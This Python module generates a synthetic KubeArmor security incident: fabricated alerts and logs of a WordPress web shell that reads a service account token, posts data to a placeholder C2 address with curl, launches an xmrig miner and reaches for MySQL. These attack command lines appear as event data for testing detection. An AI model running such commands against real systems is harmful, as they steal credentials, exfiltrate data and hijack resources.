"""One scripted incident, because no recording has what it shows.

A web shell in a WordPress pod becomes a shell, reads the pod's service account token, calls home,
tries a package manager and a miner (both blocked) and reaches for MySQL in another namespace.
Beside it: a throttled pod, a dropped capability, a USB stick, a firewall event. So there are
events with owners, labels, several namespaces, MITRE tags, `Audit (Block)`, hashes and a terminal.

How to know that these are invented: every event's HostName begins with `synthetic-`, its
ClusterName is `synthetic`, and every pod carries the label `armorstack.io/synthetic=true`.
Addresses are those that RFC 5737 keeps for documentation. Policy names, tags and shapes are as
KubeArmor's own policies and enforcers write them. Must not go here: clocks, sockets, randomness.
"""

from typing import Any

from msgspec import Struct

from armorstack.core.fields import Stream
from armorstack.sample.cast import AGENT, MYSQL, RESIZER, WORDPRESS, host, sha256
from armorstack.sample.recorded import Values

VERSION = "v1.6.8"
C2 = "203.0.113.66"
TOKEN = "/run/secrets/kubernetes.io/serviceaccount/..2026_11_20_08_00_00.1530474671/token"
MINER = "/tmp/.cache/xmrig"
DENIED = "Permission denied"


class Step(Struct, frozen=True):
    """One event of the script, without its times."""

    stream: Stream
    values: Values


def event_data(operation: str, resource: str, data: str) -> dict[str, str]:
    """`EventData` as KubeArmor derives it: `k=v` words, keys begin large, later ones win."""
    words = f"{data} {resource}" if operation == "Network" else data
    pairs = (word.split("=", 1) for word in words.split() if "=" in word)
    return {key[:1].upper() + key[1:]: value for key, value in pairs}


def _act(
    operation: str, resource: str, data: str, result: str = "Passed", **more: Any
) -> dict[str, Any]:
    """What was done."""
    return {
        "Operation": operation,
        "Resource": resource,
        "Data": data,
        "EventData": event_data(operation, resource, data),
        "Result": result,
        **more,
    }


def _rule(name: str, severity: int, message: str, *tags: str) -> dict[str, Any]:
    """Which policy matched."""
    return {
        "Type": "MatchedPolicy",
        "PolicyName": name,
        "Severity": str(severity),
        "Message": message,
        "Tags": ",".join(tags),
        "ATags": list(tags),
    }


class Script:
    """The incident's `turn`-th performance: process ids and exec ids differ from turn to turn."""

    def __init__(self, turn: int) -> None:
        self._pid = 40_000 + turn % 1_000 * 64
        self._exec = 3_100_000_000_000 + turn * 100_000_000_000

    def process(self, name: str, parent: str, uid: int = 33) -> dict[str, Any]:
        """A process that has just begun."""
        self._pid += 1
        self._exec += 1_234_567_891
        return {
            "HostPPID": self._pid - 1,
            "HostPID": self._pid,
            "PPID": self._pid % 1_000 - 1,
            "PID": self._pid % 1_000,
            "UID": uid,
            "ParentProcessName": parent,
            "ProcessName": name,
            "Source": name,
            "Cwd": "/",
            "ExecEvent": {
                "ExecID": str(self._exec),
                "ExecutableName": name.rpartition("/")[2],
            },
        }


APACHE, SHELL, BASH = "/usr/sbin/apache2", "/usr/bin/dash", "/usr/bin/bash"
BLOCK = {"Action": "Block", "Enforcer": "BPFLSM", "KubeArmorVersion": VERSION}
AUDIT = {"Action": "Audit", "Enforcer": "eBPF Monitor"}
TTY = {"TTY": "pts0"}


def _joined(parts: tuple[dict[str, Any], ...]) -> dict[str, Any]:
    members = {key: value for part in parts for key, value in part.items()}
    if members.get("Operation") == "Process":
        # Of a process that begins, Source is who began it.
        members["Source"] = members["ParentProcessName"]
    return members


def _alert(*parts: dict[str, Any]) -> Step:
    return Step("alert", _joined(parts))


def _log(*parts: dict[str, Any]) -> Step:
    return Step("log", {"Type": "ContainerLog", **_joined(parts)})


def _break_in(script: Script) -> list[Step]:
    pod = WORDPRESS.values()
    upload = "/var/www/html/wp-content/uploads/2026/11/avatar.php"
    opened = "syscall=SYS_OPENAT fd=-100 flags=O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC"
    apache = script.process(APACHE, APACHE)
    shell = script.process(SHELL, APACHE)
    bash = {**script.process(BASH, SHELL), **TTY}
    exec_ = "syscall=SYS_EXECVE"
    return [
        _log(pod, apache, _act("File", upload, opened)),
        _alert(
            pod, apache, _act("File", upload, opened), AUDIT,
            _rule("harden-wordpress-file-integrity-monitoring", 4,
                  "Detected and prevented compromise to File integrity",
                  "NIST", "NIST_800-53_AU-2", "NIST_800-53_SI-4", "MITRE",
                  "MITRE_T1036_masquerading", "MITRE_T1565_data_manipulation"),
        ),
        _alert(
            pod, shell, _act("Process", f"{SHELL} -c id;uname -a", exec_), AUDIT,
            _rule("ksp-wordpress-audit-web-shell", 8, "The web server started a shell",
                  "MITRE", "MITRE_TA0002_execution", "MITRE_T1505.003_web_shell",
                  "MITRE_T1059.004_unix_shell"),
        ),
        _alert(
            pod, bash, _act("Process", f"{BASH} -i", exec_),
            {"Action": "Audit (Block)", "Enforcer": "eBPF Monitor"},
            _rule("ksp-wordpress-block-shells", 7, "Interactive shell in a web container",
                  "MITRE", "MITRE_TA0002_execution",
                  "MITRE_T1609_container_administration_command"),
        ),
    ]  # fmt: skip


def _steal_and_call_home(script: Script) -> list[Step]:
    pod = WORDPRESS.values()
    cat = {**script.process("/usr/bin/cat", BASH), "Source": f"/usr/bin/cat {TOKEN}", **TTY}
    curl = {**script.process("/usr/bin/curl", BASH), **TTY}
    calling = {**curl, "Source": f"/usr/bin/curl -sk https://{C2}/c"}
    read = "syscall=SYS_OPENAT fd=-100 flags=O_RDONLY|O_CLOEXEC"
    home = f"sa_family=AF_INET sin_port=443 sin_addr={C2}"
    return [
        _alert(
            pod, cat, _act("File", TOKEN, read),
            {"Action": "Audit (Block)", "Enforcer": "eBPF Monitor"},
            _rule("ksp-wordpress-block-service-account", 9, "Service account token read",
                  "CIS", "CIS_Kubernetes_Benchmark_v1.27_5.1.6", "MITRE",
                  "MITRE_TA0006_credential_access", "MITRE_T1528_steal_application_access_token",
                  "MITRE_T1552_unsecured_credentials"),
        ),
        _alert(
            pod, curl,
            _act("Process", f"/usr/bin/curl -sk https://{C2}/c -d @/tmp/.t", "syscall=SYS_EXECVE"),
            AUDIT,
            _rule("ksp-wordpress-audit-ingress-tools", 6, "Transfer tool run in a web container",
                  "MITRE", "MITRE_TA0011_command_and_control",
                  "MITRE_T1105_ingress_tool_transfer"),
        ),
        _log(pod, calling, _act("Network", home, "syscall=SYS_CONNECT fd=5")),
        _log(pod, calling,
             _act("Network", f"remoteip={C2} port=443 protocol=TCP",
                  "kprobe=tcp_connect domain=AF_INET")),
    ]  # fmt: skip


def _try_tools(script: Script) -> list[Step]:
    pod = WORDPRESS.values()
    apt = script.process("/usr/bin/apt-get", BASH)
    miner = script.process(MINER, BASH)
    check = "lsm=SECURITY_BPRM_CHECK"
    hashes = {
        "ProcessHash": sha256("xmrig"),
        "ParentHash": sha256("bash"),
        "ResourceHash": sha256("xmrig"),
        "HashAlgo": "sha256",
    }
    mined = _act("Process", f"{MINER} -o stratum+tcp://{C2}:3333 --donate-level 0", check, DENIED)
    unlinked = "syscall=SYS_UNLINKAT flags=0"
    remover = {**script.process("/usr/bin/rm", BASH), "Source": f"/usr/bin/rm -f {MINER}"}
    return [
        _alert(
            pod, apt, _act("Process", "/usr/bin/apt-get install -y nmap", check, DENIED), BLOCK,
            _rule("harden-wordpress-pkg-mngr-exec", 5,
                  "Alert! Execution of package management process inside container is denied",
                  "NIST", "NIST_800-53_CM-7(4)", "SI-4", "process", "NIST_800-53_SI-4"),
        ),
        _log(pod, apt,
             _act("Process", "/usr/bin/apt-get install -y nmap", "syscall=SYS_EXECVE", DENIED)),
        _alert(
            pod, miner, mined, BLOCK, hashes,
            _rule("harden-wordpress-crypto-miners", 10,
                  "Alert! cryptominer execution prevented.",
                  "MITRE", "MITRE_TA0040_impact", "MITRE_T1496_resource_hijacking",
                  "NIST_800-53_SI-4"),
        ),
        _alert(
            pod, miner, _act("Process", "/memfd:x (deleted)", check, DENIED), hashes,
            {**BLOCK, "Enforcer": "PRESET-filelessExec"},
            _rule("preset-fileless-exec", 9, "Execution from memory denied",
                  "MITRE", "MITRE_TA0005_defense_evasion", "MITRE_T1620_reflective_code_loading"),
        ),
        # KubeArmor tells an audited syscall twice: as File and as Syscall.
        _log(pod, remover, _act("File", MINER, unlinked)),
        _log(pod, remover, _act("Syscall", MINER, unlinked)),
    ]  # fmt: skip


def _reach_for_mysql(script: Script) -> list[Step]:
    web, db = WORDPRESS.values(), MYSQL.values()
    client = {**script.process("/usr/bin/mysql", BASH), "Source": "/usr/bin/mysql -h mysql.data"}
    dump = script.process("/usr/bin/mysqldump", "/usr/sbin/mysqld", 999)
    target = "sin_port=3306 sa_family=AF_INET sin_addr=198.51.100.17"
    lateral = _rule(
        "harden-wordpress-remote-services", 8, "Connection to a database from a web shell",
        "MITRE", "MITRE_TA0008_lateral_movement", "MITRE_T1021_remote_services",
    )  # fmt: skip
    return [
        _alert(web, client, _act("Network", target, "syscall=SYS_CONNECT fd=3"), AUDIT, lateral),
        _log(db, dump, _act("Network", "remoteip=198.51.100.31 port=3306 protocol=TCP",
                            "kprobe=tcp_accept domain=AF_INET")),
        _alert(db, dump, _act("File", "/var/lib/mysql/shop/customers.ibd", "lsm=FILE_OPEN", DENIED),
               BLOCK,
               _rule("harden-mysql-database-dir", 9, "Database files opened by another program",
                     "MITRE", "MITRE_TA0009_collection", "MITRE_T1005_data_from_local_system",
                     "PCI-DSS")),
    ]  # fmt: skip


def _capability(script: Script) -> Step:
    raw = _act("Capabilities", "CAP_NET_RAW", "lsm=CAPABLE CAP_NET_RAW", DENIED)
    rule = _rule(
        "ksp-block-cap-net-raw", 6, "Raw sockets are denied", "MITRE", "MITRE_TA0007_discovery",
        "MITRE_T1040_network_sniffing",
    )  # fmt: skip
    return _alert(AGENT.values(), script.process("/usr/bin/tcpdump", BASH, 0), raw, BLOCK, rule)


def _throttle(script: Script) -> list[Step]:
    pod = RESIZER.values()
    posture = {"Type": "MatchedPolicy", "PolicyName": "DefaultPosture"}
    touched = [
        _alert(pod, script.process("/usr/bin/convert", SHELL, 1000), posture, AUDIT,
               _act("File", f"/srv/images/{number:05d}.jpg", "lsm=FILE_OPEN"))
        for number in range(4)
    ]  # fmt: skip
    dropping = {
        "Type": "SystemEvent",
        "Operation": "AlertThreshold",
        "Enforcer": "BPFLSM",
        "Result": "Passed",
        "MaxAlertsPerSec": 10,
        "DroppingAlertsInterval": 30,
    }
    return [*touched, _alert(pod, dropping)]


def _message(text: str) -> Step:
    node = {key: value for key, value in host(2).items() if key != "NodeID"}
    told = {"HostIP": "198.51.100.2", "Type": "Message", "Level": "WARN", "Message": text}
    return Step("message", {**node, **told})


def _at_the_node() -> list[Step]:
    stick = "Class=8 SubClass=6 Protocol=80 Level=1 SysPath=/sys/bus/usb/devices/1-1:1.0"
    usb = ("Device", "USB MASS-STORAGE_6_80 1", stick)
    rule = {
        **_rule("hsp-block-usb-storage", 8, "USB storage is not allowed", "MITRE",
                "MITRE_TA0001_initial_access", "MITRE_T1091_replication_through_removable_media"),
        "Type": "MatchedHostPolicy",
        "Enforcer": "USBDeviceHandler",
    }  # fmt: skip
    flow = (
        f"SourceIP=198.51.100.31 SourcePort=41522 DestinationIP={C2} DestinationPort=3333"
        " Protocol=TCP"
    )
    firewall = _act("NetworkFirewall", "Default Egress Audit", flow)
    quota = _act(
        "NetworkFirewall", "egress-quota Egress Block pod 500mbytes",
        f"{flow} QuotaLevel=pod QuotaLimit=500mbytes", DENIED,
    )  # fmt: skip
    network = {
        **_rule("egress-quota", 4, "Egress quota used up", "MITRE", "MITRE_TA0010_exfiltration"),
        "Type": "MatchedNetworkPolicy",
        "Action": "Block",
        "Enforcer": "NetworkPolicyEnforcer",
    }
    return [
        _alert(host(2), _act(*usb, DENIED, Action="Block"), rule),
        _alert(host(2), _act(*usb, "Removed", Action="Remove"), rule),
        # A default posture's firewall event is no alert to KubeArmor: it comes with the logs.
        _log(host(1), firewall, {"Type": "MatchedNetworkPolicy"}),
        _alert(host(1), quota, network),
        _message("Alerts of resizer-29383200-v9kqz exceed 10 per second"),
    ]


def steps(turn: int) -> list[Step]:
    """The whole incident, in its order; the same for the same turn."""
    script = Script(turn)
    return [
        *_break_in(script),
        *_steal_and_call_home(script),
        *_try_tools(script),
        *_reach_for_mysql(script),
        _capability(script),
        *_throttle(script),
        *_at_the_node(),
    ]
